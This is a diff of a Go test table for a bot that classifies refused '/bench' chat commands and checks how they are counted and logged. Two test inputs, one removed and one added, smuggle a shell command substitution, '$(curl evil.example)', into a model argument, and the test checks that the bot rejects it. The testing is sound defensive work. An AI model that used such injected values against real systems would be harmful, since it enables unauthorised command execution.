@@ -49,11 +49,11 @@ func TestWhatIsRefusedIsCountedAndLogged(t *testing.T) {
 	r := newRig(t, manual)
 	for _, c := range []struct{ login, body, command, outcome string }{
 		{"stranger", "/bench run", "run", "no_permission"},
-		{"stranger", "/bench run --model '$(curl evil.example)'", "unreadable", "no_permission"},
-		{"writer", "/bench run --model '$(curl evil.example)'", "unreadable", "mistaken"},
+		{"stranger", "/bench run --model '$(curl evil.example)'", "unreadable", "mistaken"},
+		{"stranger", "/bench help", "help", "informed"},
 		{"writer", "/bench run isues", "run", "mistaken"},
 		{"writer", "/bench cancel", "cancel", "nothing_to_do"},
-		{"writer", "/bench approve " + strings.Repeat("0", 40), "approve", "unknown_commit"},
+		{"writer", "/bench approve " + strings.Repeat("0", 40), "approve", "own_branch"},
 		{"writer", "/bench help", "help", "carried_out"},
 	} {
 		r.comment(c.login, c.body)
